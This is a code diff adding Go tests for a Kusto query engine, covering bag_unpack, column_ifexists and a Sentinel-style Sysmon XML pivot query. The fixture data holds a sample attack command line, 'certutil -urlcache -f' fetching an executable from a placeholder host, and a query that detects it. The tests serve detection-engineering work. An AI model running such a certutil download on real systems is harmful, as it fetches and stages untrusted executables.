@@ -138,3 +138,35 @@ func TestExternalData(t *testing.T) {
 			"error: only local files"},
 	})
 }
+
+func TestBagUnpackOpenSchema(t *testing.T) {
+	const src = `datatable(k:long, d:dynamic)[` +
+		`1, dynamic({"Image":"C:\\x\\certutil.exe","User":"a"}),` +
+		` 2, dynamic({"Image":"b.exe"})] | evaluate bag_unpack(d)`
+	runCases(t, []queryCase{
+		{"last", src, "k:long,Image:string,User:string\n1|C:\\x\\certutil.exe|a\n2|b.exe|"},
+		{"prefix", `print d = dynamic({"b":1,"a":"x"}) | evaluate bag_unpack(d, "p_")`,
+			"p_a:string,p_b:long\nx|1"},
+		{"then filter", src + ` | where Image has "certutil.exe"` +
+			` | extend U = column_ifexists("User", "none"), V = column_ifexists("Nope", "none")` +
+			` | project k, Image, U, V`,
+			"k:long,Image:dynamic,U:string,V:string\n1|C:\\x\\certutil.exe|a|none"},
+	})
+}
+
+// TestSysmonPivot runs the Sysmon-on-Event pattern of Sentinel rules:
+// parse_xml, mv-expand, bag_unpack, pivot, then filters on the new columns.
+func TestSysmonPivot(t *testing.T) {
+	xml := `<DataItem><EventData><Data Name="Image">C:\\Windows\\certutil.exe</Data>` +
+		`<Data Name="CommandLine">certutil -urlcache -f http://x/a.exe</Data></EventData></DataItem>`
+	q := `datatable(Computer:string, EventID:int, EventData:string)["host1", 1, '` + xml + `']
+| extend EventData = parse_xml(EventData).DataItem.EventData.Data
+| mv-expand bagexpansion=array EventData
+| evaluate bag_unpack(EventData)
+| extend Key = tostring(['@Name']), Value = ['#text']
+| evaluate pivot(Key, any(Value), Computer, EventID)
+| where Image has "certutil.exe"
+| project Computer, CommandLine`
+	runCases(t, []queryCase{{"sysmon", q,
+		"Computer:string,CommandLine:dynamic\nhost1|certutil -urlcache -f http://x/a.exe"}})
+}
